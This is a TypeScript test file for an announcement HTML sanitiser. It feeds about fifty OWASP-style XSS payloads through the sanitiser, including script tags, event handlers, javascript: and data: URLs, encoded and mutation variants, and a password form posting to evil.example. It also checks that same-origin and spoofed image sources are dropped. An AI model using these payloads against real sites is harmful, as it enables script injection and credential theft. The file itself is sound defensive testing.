// The announcement sanitiser (docs/behaviour/announcements.md#sanitising) against OWASP-style hostile inputs.
import { describe, expect, it } from "vitest";
import { sanitiseHtml } from "~/.server/html/sanitize.server";

const OPTIONS = {
  ownOrigin: "http://demo.localhost:8787",
  imageHosts: ["cdn.demo.example"],
  imageOrigins: ["https://img.demo.example"],
};
const clean = (html: string) => sanitiseHtml(html, OPTIONS);

/** Nothing in the output can run script, load a foreign resource or submit anything. */
function expectInert(output: string): void {
  expect(output).not.toMatch(/<\s*(script|style|iframe|object|embed|form|input|button|svg|math|meta|link|base|frame|textarea|select)\b/i);
  expect(output).not.toMatch(/\son[a-z]+\s*=/i);
  expect(output).not.toMatch(/style\s*=/i);
  expect(output).not.toMatch(/(java|vb)script\s*:/i);
  expect(output).not.toMatch(/data\s*:/i);
  expect(output).not.toMatch(/src="(?!https:\/\/cdn\.demo\.example\/|https:\/\/img\.demo\.example\/)/i);
}

const HOSTILE: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JAVASCRIPT:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="https://user:pw@evil.example/">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/steal"><input name="p" type="password"><button>Go</button></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
  "<style>body{display:none}</style>",
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<svg onload="alert(1)"><circle r="5"/></svg>',
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<body onload="alert(1)">',
  '<details open ontoggle="alert(1)">',
  '<video><source onerror="alert(1)"></video>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="http://cdn.demo.example/insecure.png">',
  '<img srcset="https://evil.example/a.png 1x">',
  "<!--<img src=x onerror=alert(1)>-->",
  '<p title="x" onclick=alert(1)>hi</p>',
  '"><script>alert(1)</script>',
  '<a href="https://ok.example/" target="_self" rel="opener">x</a>',
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<span onpointerenter="alert(1)" class="x">t</span>',
];

describe("sanitiseHtml", () => {
  it.each(HOSTILE)("leaves nothing active in %s", (input) => {
    expectInert(clean(input));
  });

  it("keeps the text of what it removes, but not the code of scripts and styles", () => {
    expect(clean("<p>Hello <script>window.x=1</script>world</p>")).toBe("<p>Hello world</p>");
    expect(clean("<style>p{}</style><p>Hi</p>")).toBe("<p>Hi</p>");
    expect(clean('<form action="/x"><p>Inside a form</p><input value="v"></form>')).toBe("<p>Inside a form</p>");
  });

  it("keeps basic formatting", () => {
    const html =
      "<h3>Title</h3><h4>Sub</h4><p><strong>a</strong><em>b</em><b>c</b><i>d</i><u>e</u><span>f</span></p><ul><li>1</li></ul><ol><li>2</li></ol><div>g<br></div>";
    expect(clean(html)).toBe(html);
  });

  it("keeps safe links: outside ones open in a new tab without access to this page", () => {
    expect(clean('<a href="https://ok.example/x">x</a>')).toBe(
      '<a href="https://ok.example/x" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(clean('<a href="/m/rewardCenter" target="_blank">x</a>')).toBe('<a href="/m/rewardCenter">x</a>');
    expect(clean('<a href="http://demo.localhost:8787/m/home">x</a>')).toBe('<a href="http://demo.localhost:8787/m/home">x</a>');
    expect(clean('<a href="mailto:help@demo.example">x</a>')).toBe('<a href="mailto:help@demo.example">x</a>');
    expect(clean('<a href="javascript:alert(1)">x</a>')).toBe("<a>x</a>");
  });

  it("keeps images from the merchant's image origins and image CDNs only, over https", () => {
    expect(clean('<img src="https://cdn.demo.example/a.png" alt="">')).toBe('<img src="https://cdn.demo.example/a.png" alt>');
    expect(clean('<img src="https://img.demo.example/b.png" alt="B">')).toBe('<img src="https://img.demo.example/b.png" alt="B">');
    expect(clean('<img src="HTTPS://IMG.demo.example:443/c.png">')).toBe('<img src="https://img.demo.example/c.png">');
    expect(clean('<p>x<img src="https://evil.example/a.png">y</p>')).toBe("<p>xy</p>");
    expect(clean('<img src="https://cdn.demo.example/a.png" width="100" height="50%">')).toBe(
      '<img src="https://cdn.demo.example/a.png" width="100">',
    );
  });

  // An image is a GET with the member's cookie (and through /wps with the member's token): never one to the site itself.
  it.each([
    '<img src="/wps/member/info">',
    '<img src="/m/logout">',
    '<img src="/a.png">',
    '<img src="a.png">',
    '<img src="./a.png">',
    '<img src="../wps/x">',
    '<img src="?x=1">',
    '<img src="http://demo.localhost:8787/wps/member/info">',
    '<img src="//evil.example/a.png">',
    '<img src="//cdn.demo.example/a.png">',
    '<img src="/\\evil.example/a.png">',
    '<img src="\\\\evil.example/a.png">',
    '<img src="&#47;wps/member/info">',
    '<img src="&#x2F;&#x2F;evil.example/a.png">',
    '<img src=" /wps/member/info">',
    '<img src="\t//evil.example/a.png">',
    '<img src="http://cdn.demo.example/a.png">',
    '<img src="https://user:pw@cdn.demo.example/a.png">',
    '<img src="https://cdn.demo.example.evil.example/a.png">',
    '<img src="https://img.demo.example.evil.example/a.png">',
    '<img src="https://img.demo.example:8443/a.png">',
    "<img src=/wps/member/info>",
    "<img src='/wps/member/info'>",
  ])("drops %s whole: not one of the merchant's image origins", (input) => {
    expect(clean(`<p>a${input}b</p>`)).toBe("<p>ab</p>");
  });

  it("keeps escaped text escaped", () => {
    expect(clean("<p>Odds 1 &lt; 2 &amp; more</p>")).toBe("<p>Odds 1 &lt; 2 &amp; more</p>");
  });
});
